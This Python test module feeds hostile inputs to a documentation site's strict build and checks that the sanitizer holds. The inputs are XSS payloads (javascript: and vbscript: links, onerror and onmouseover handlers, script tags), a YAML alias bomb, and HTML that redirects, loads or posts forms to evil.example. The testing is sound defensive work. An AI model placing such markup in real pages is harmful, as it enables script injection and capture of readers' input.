"""Hostile cases through real strict builds (scripts/safe_build.py, the real config, hooks and overrides), grouped so a
handful of builds cover them:

- every inert markup payload in every Markdown field of every page kind, and script-running links in the page body
  of every kind (links, raw HTML, footnotes): the site builds, no page holds anything active from them, and in
  Chromium hovering and clicking every link of every such page runs nothing and violates no policy;
- refused cases of every category at once (alias bomb, deep nesting, duplicate key, Unix time, .markdown page,
  dangling symbolic link, non-UTF-8 file, unclosed front matter, a link to no page): the build stops within a
  time bound with one `file: field: reason` line per case, no traceback, and the last good site/ intact.
Outcomes join the table of tests/robustness/hostile_table.py.
"""

from __future__ import annotations

import copy
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from playwright.sync_api import Browser

from tests.robustness.corpus import BASE_PAGES, base_page, files_of, front_matter_text, write_file
from tests.robustness.fixture_site import write_config
from tests.robustness.hostile_cases import ALIAS_BOMB, ALL_INERT, MARKDOWN_FIELDS, Case, Refused, page_text
from tests.robustness.hostile_run import Result
from tests.robustness.hostile_table import RESULTS
from tests.robustness.mutations import set_at
from tests.robustness.test_hostile_build import tree_digest
from tests.support.browser import block_non_local
from tests.support.paths import REPO_ROOT
from tests.support.serve import serve_dir

SAFE_BUILD = REPO_ROOT / "scripts" / "safe_build.py"
BUILD_LIMIT_SECONDS = 300

# Script-running links in a page's own body: Markdown links, raw HTML with every quoting, a footnote, a reference.
HOSTILE_BODY = """Body with [a link](javascript:alert(1)) and [data](data:text/html,<script>alert(1)</script>).

<a href='javascript:alert(1)'>single</a> <a href=javascript:alert(1)>bare</a> <a href="vbscript:msgbox(1)">vb</a>

A footnote[^1] and a [reference][r].

[^1]: [footnote link](javascript:alert(1))

[r]: JaVaScRiPt:alert(1)
"""


def safe_build(config: Path, site_dir: Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, str(SAFE_BUILD), "--config-file", str(config), "--site-dir", str(site_dir)]
    return subprocess.run(command, capture_output=True, text=True, timeout=BUILD_LIMIT_SECONDS, check=False)


def write_pages(root: Path, front_matter: dict[str, str] | None = None, body: str = "Body.\n") -> Path:
    """The corpus (and a flowchart page) under root/docs with every Markdown field full of payloads."""
    docs = root / "docs"
    docs.mkdir(parents=True, exist_ok=True)
    (docs / "assets").symlink_to(REPO_ROOT / "docs" / "assets", target_is_directory=True)
    pages = {page_id: base_page(page_id) for page_id in BASE_PAGES}
    pages["flowchart"] = {**base_page("about/e"), "title": "Flowchart"}
    for page_id, path, _ in MARKDOWN_FIELDS:
        set_at(pages[page_id], path, ALL_INERT)
    for page_id, page in pages.items():
        for file in files_of(page_id):
            write_file(docs, file, (front_matter or {}).get(file) or front_matter_text(copy.deepcopy(page)), body)
    return write_config(root)


def active_in_page(html: str) -> list[str]:
    """Anything a payload could have made active anywhere in a built page."""
    from guide.markup.unsafe_links import scheme_of

    soup = BeautifulSoup(html, "html.parser")
    found = []
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            if name.startswith("on") or (name == "style" and "javascript" in str(value)):
                found.append(f"<{element.name} {name}={value!r}>")
            if name in ("href", "src", "action", "formaction", "data") and scheme_of(str(value)) in (
                "javascript",
                "vbscript",
                "data",
            ):
                found.append(f"<{element.name} {name}={value!r}>")
    found += [f"<{img.name} src={img.get('src')!r}>" for img in soup.find_all("img")]
    found += ["a script with alert(1)" for script in soup.find_all("script") if "alert(1)" in script.get_text()]
    configs = soup.find_all(id="__config")
    if len(configs) != 1 or configs[0].name != "script":
        found.append(f"{len(configs)} elements with id __config")
    return found


@pytest.fixture(scope="module")
def markup_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile-markup")
    started = time.monotonic()
    result = safe_build(write_pages(root, body=HOSTILE_BODY), root / "site")
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    assert "Traceback" not in output
    RESULTS.append(
        Result(
            Case("markup", "build: every payload in every field, hostile bodies", lambda docs: None),
            "built inert",
            "",
            time.monotonic() - started,
        )
    )
    return root / "site"


def test_no_page_holds_anything_active(markup_site: Path) -> None:
    pages = sorted(markup_site.rglob("*.html"))
    assert len(pages) >= 16
    problems = [
        f"{page.relative_to(markup_site)}: {found}" for page in pages for found in active_in_page(page.read_text())
    ]
    assert not problems, "\n".join(problems)


def test_the_payloads_show_as_text(markup_site: Path) -> None:
    text = BeautifulSoup((markup_site / "procedures/a/index.html").read_text(), "html.parser").get_text()
    assert "{: onmouseover=alert(1) }" in text and "{: #__config }" in text and "<img src=x onerror=alert(1)>" in text


@pytest.fixture(scope="module")
def markup_url(markup_site: Path) -> Iterator[str]:
    with serve_dir(markup_site) as url:
        yield url


INIT = (
    "window.ran = 0; window.alert = () => { window.ran += 1; }; window.cspViolations = [];"
    "document.addEventListener('securitypolicyviolation', (e) => window.cspViolations.push(e.violatedDirective));"
)


@pytest.mark.browser
@pytest.mark.parametrize(
    "path", ["", "check/first/", "procedures/a/", "en/procedures/b/", "about/e/", "en/reference/r/"]
)
def test_hovering_and_clicking_every_link_runs_nothing(browser: Browser, markup_url: str, path: str) -> None:
    context = browser.new_context()
    context.route("**/*", block_non_local)
    context.add_init_script(INIT)
    page = context.new_page()
    try:
        page.goto(markup_url + path, wait_until="load")
        ran, violations, clicked, unsafe = page.evaluate(
            """() => {
              for (const element of document.querySelectorAll('article *')) {
                for (const type of ['mouseover', 'mouseenter', 'focus']) element.dispatchEvent(new Event(type));
              }
              // Links that lead to a page or an address are not followed (the test would leave the page); every
              // other one is clicked, as a reader would tap it.
              const safe = (a) => a.hasAttribute('href') && ['http:', 'https:', 'mailto:'].includes(a.protocol);
              const links = [...document.querySelectorAll('article a')].filter((a) => a instanceof HTMLAnchorElement);
              const unsafe = links.filter((a) => a.hasAttribute('href') && !safe(a)).map((a) => a.href);
              const others = links.filter((a) => !safe(a));
              for (const link of others) link.click();
              return [window.ran, window.cspViolations, others.length, unsafe];
            }"""
        )
        page.wait_for_timeout(300)
        ran += page.evaluate("window.ran")
    finally:
        context.close()
    assert clicked > 0, "no link without a target was clicked: the payloads are missing"
    assert unsafe == [], f"links with a script-running target: {unsafe}"
    assert (ran, violations) == (0, []), f"ran {ran} times; policy violations: {violations}"


# Refused cases of every category, all in one build: what each file holds, and the line each must give.
def _refused(category: str, name: str, file: str, field: str, reason: str) -> Case:
    return Case(category, f"build: {name}", lambda docs: None, Refused(file, field, reason))


BROKEN_FILES: dict[str, str | bytes | None] = {
    "index.md": "---\n" + front_matter_text(base_page("index")) + ALIAS_BOMB + "\n---\n",
    "check/first.en.md": "---\n"
    + front_matter_text(base_page("check/first"))
    + "x: "
    + "[" * 30_000
    + "]" * 30_000
    + "\n---\n",
    "scenarios/s.md": "---\n" + front_matter_text(base_page("scenarios/s")) + "title: twice\n---\n",
    "procedures/a.md": "---\n"
    + front_matter_text(base_page("procedures/a")).replace("reviewed: '2026-11-01'", "reviewed: 1795910400")
    + "---\n",
    "about/extra.markdown": page_text("about/e"),
    "about/e.en.md": page_text("about/e").encode("utf-8") + b"\xff",
    "reference/r.md": page_text("reference/r").split("---\n\n")[0] + "---",
    "procedures/b.md": None,  # a dangling symbolic link
}
EXPECTED = [
    _refused("yaml", "alias bomb", "index.md", "front matter", "anchors (&name) are not allowed"),
    _refused("yaml", "deep nesting", "check/first.en.md", "front matter", "nested more than 10 levels"),
    _refused("yaml", "duplicate key", "scenarios/s.md", "front matter", "is given twice"),
    _refused("types", "Unix time", "procedures/a.md", "reviewed", "1795910400 is not a date (YYYY-MM-DD)"),
    _refused("files", ".markdown page", "about/extra.markdown", "name", "only .md files are pages"),
    _refused("files", "not UTF-8", "about/e.en.md", "file", "is not UTF-8 text"),
    _refused("faults", "closing --- without a line break", "reference/r.md", "front matter", "not closed"),
    _refused("files", "dangling symbolic link", "procedures/b.md", "file", "symbolic link to nothing"),
]


def test_refused_cases_stop_the_build_with_one_line_each_and_keep_the_site(tmp_path: Path) -> None:
    good = tmp_path / "good"
    assert safe_build(write_pages(good), good / "site").returncode == 0
    before = tree_digest(good / "site")
    broken = tmp_path / "broken"
    config = write_pages(broken)
    for file, content in BROKEN_FILES.items():
        path = broken / "docs" / file
        path.unlink(missing_ok=True)
        if content is None:
            os.symlink(broken / "docs" / "nowhere.md", path)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    started = time.monotonic()
    result = safe_build(config, good / "site")
    seconds = time.monotonic() - started
    output = result.stdout + result.stderr
    lines = {line.strip() for line in output.splitlines()}
    for case in EXPECTED:
        expected = case.refused
        assert expected is not None
        found = [
            line
            for line in lines
            if line.startswith(f"{expected.file}: {expected.field}: ") and expected.reason in line
        ]
        outcome = (
            "refused" if found and "Traceback" not in output else ("traceback" if "Traceback" in output else "wrong")
        )
        RESULTS.append(Result(case, outcome, output if outcome != "refused" else found[0], seconds))
    assert result.returncode != 0
    assert "Traceback" not in output, output
    assert seconds < 120, f"the build took {seconds:.0f} s"
    missing = [
        str(case.refused)
        for case in EXPECTED
        if not any(line.startswith(f"{case.refused.file}: {case.refused.field}: ") for line in lines)  # type: ignore[union-attr]
    ]
    assert not missing, f"lines missing for {missing}:\n{output}"
    assert tree_digest(good / "site") == before, "a failed build changed the last good site/"
    assert not list(good.glob("site.building-*"))


# Raw HTML in a page's own body that would run, restyle, redirect, load or send: each refused by a real strict build
# with the file and the line that holds it (one build per payload: MkDocs stops at the first page it refuses).
BODY_PAYLOADS = {
    "script": ("<script>alert(1)</script>", "<script> runs script"),
    "module script in markdown div": (
        '<div markdown="1">\n\n*x*\n\n<script type="module">alert(1)</script>\n\n</div>',
        "<script> runs script",
    ),
    "style hiding the page": ("<style>body{display:none}</style>", "<style> restyles the page"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta> can redirect"),
    "link": ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link> loads another file"),
    "base": ('<base href="https://evil.example/">', "<base> changes where every link"),
    "iframe srcdoc": ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe> shows another document"),
    "object": ('<object data="https://evil.example/x"></object>', "<object> loads a plugin"),
    "embed": ('<embed src="https://evil.example/x">', "<embed> loads a plugin"),
    "form": ('<form action="https://evil.example/"><input name="code"></form>', "<form> sends what a reader types"),
    "event handler": ("<b onmouseover=alert(1)>hover</b>", "<b onmouseover=…> runs script"),
}


@pytest.mark.parametrize("name", list(BODY_PAYLOADS))
def test_raw_html_that_acts_in_a_body_stops_the_build_with_file_and_line(tmp_path: Path, name: str) -> None:
    payload, reason = BODY_PAYLOADS[name]
    started = time.monotonic()
    config = write_pages(tmp_path)
    target = tmp_path / "docs" / "procedures" / "a.md"
    text = target.read_text(encoding="utf-8")
    target.write_text(text + "\nBefore.\n\n" + payload + "\n", encoding="utf-8")
    element = reason.split(">")[0].split(" ")[0]  # "<script", "<b"
    line = (text + "\nBefore.\n\n").count("\n") + 1 + payload[: payload.index(element)].count("\n")
    result = safe_build(config, tmp_path / "site")
    output = result.stdout + result.stderr
    outcome = "refused" if result.returncode == 1 and "Traceback" not in output else "wrong"
    expected = f"procedures/a.md: line {line}: {reason}"
    RESULTS.append(
        Result(
            Case("markup", f"build: body {name}", lambda docs: None, Refused("procedures/a.md", f"line {line}", "")),
            outcome if expected in output else "wrong",
            output[-400:],
            time.monotonic() - started,
        )
    )
    assert result.returncode == 1, output
    assert "Traceback" not in output
    assert expected in output, output
    assert not (tmp_path / "site").exists()
